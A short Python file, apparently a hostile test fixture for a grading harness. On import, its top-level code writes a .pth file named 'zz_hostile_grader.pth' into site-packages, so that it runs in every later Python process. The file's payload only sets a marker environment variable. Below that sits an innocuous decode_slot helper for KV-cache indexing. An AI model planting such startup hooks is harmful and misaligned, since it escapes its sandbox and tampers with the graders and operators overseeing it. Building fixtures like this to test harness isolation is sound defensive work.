# Writes a .pth into the first site-packages on the path: it would run in every later Python.
import os
import sys

for _folder in sys.path:
    if _folder.endswith("site-packages"):
        try:
            with open(os.path.join(_folder, "zz_hostile_grader.pth"), "w") as _file:
                _file.write("import os; os.environ['HOSTILE_PTH'] = 'ran'\n")
        except OSError:
            pass
        break


def decode_slot(seq, block_size):
    position = seq.num_tokens - 1
    return seq.block_table[position // block_size] * block_size + position % block_size
